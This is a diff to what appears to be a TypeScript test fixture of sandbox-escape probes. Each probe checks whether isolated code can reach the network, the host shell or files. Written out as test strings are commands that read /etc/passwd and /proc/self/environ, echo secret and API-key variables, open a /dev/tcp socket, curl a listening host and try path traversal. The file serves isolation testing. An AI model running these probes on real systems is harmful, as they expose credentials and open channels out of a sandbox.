@@ -1,6 +1,7 @@
 /**
  * Ways a program might get out of its isolate. Each is the body of an async function with `env` in reach; it returns
- * `'OUT'` when it has reached what it should not, and `BASE` stands for a host that listens.
+ * `'OUT'` when it has reached what it should not, and `BASE` stands for a host that listens: what was sent there without
+ * an answer is seen there.
  */
 const reaches = (...calls: string[]): string[] =>
   calls.map((call) => `const r = await (${call}); return r && r.status !== undefined ? 'OUT' : undefined;`);
@@ -25,7 +26,7 @@ const network = ports.flatMap((host) => [
     `new Promise((resolve) => { const s = new WebSocket('${host}/x'.replace('http', 'ws')); s.onopen = () => resolve({ status: 1 }); s.onerror = () => resolve(); })`,
     `new Promise((resolve) => { const s = new EventSource('${host}/x'); s.onopen = () => resolve({ status: 1 }); s.onerror = () => resolve(); })`,
     `new XMLHttpRequest().open('GET', '${host}/x')`,
-    `navigator.sendBeacon('${host}/x') && { status: 1 }`,
+    `navigator.sendBeacon('${host}/x') && new Promise((resolve) => setTimeout(resolve, 200))`,
     `caches.default.match('${host}/x')`,
     `caches.open('x').then((c) => c.add('${host}/x')).then(() => ({ status: 1 }))`,
     `import('' + '${host}/x.js').then(() => ({ status: 1 }))`,
@@ -91,7 +92,7 @@ const host = [
   `return (await env.FETCH.env.FETCH_LOOPBACK) === '1' && 'OUT';`,
   `const r = await env.BASH.exec('cat /etc/passwd /proc/self/environ'); return r.stdout !== '' && 'OUT';`,
   `const r = await env.BASH.exec('echo $ROOM_SECRET$OPENAI_API_KEY'); return r.stdout !== '\\n' && 'OUT';`,
-  `const r = await env.BASH.exec('exec 3<>/dev/tcp/127.0.0.1/80 && echo open'); return r.stdout.includes('open') && 'OUT';`,
+  `const { port } = new URL('BASE'); const r = await env.BASH.exec('exec 3<>/dev/tcp/127.0.0.1/' + port + '; echo GET /tcp HTTP/1.0 >&3; echo >&3; cat <&3'); return r.stdout.includes('from the host') && 'OUT';`,
   `const r = await env.BASH.exec('curl -s BASE/x'); return r.exitCode === 0 && 'OUT';`,
   `return (await env.FS.readFile('/etc/passwd')) && 'OUT';`,
   `return (await env.FS.readFile('/work/../etc/passwd')) && 'OUT';`,
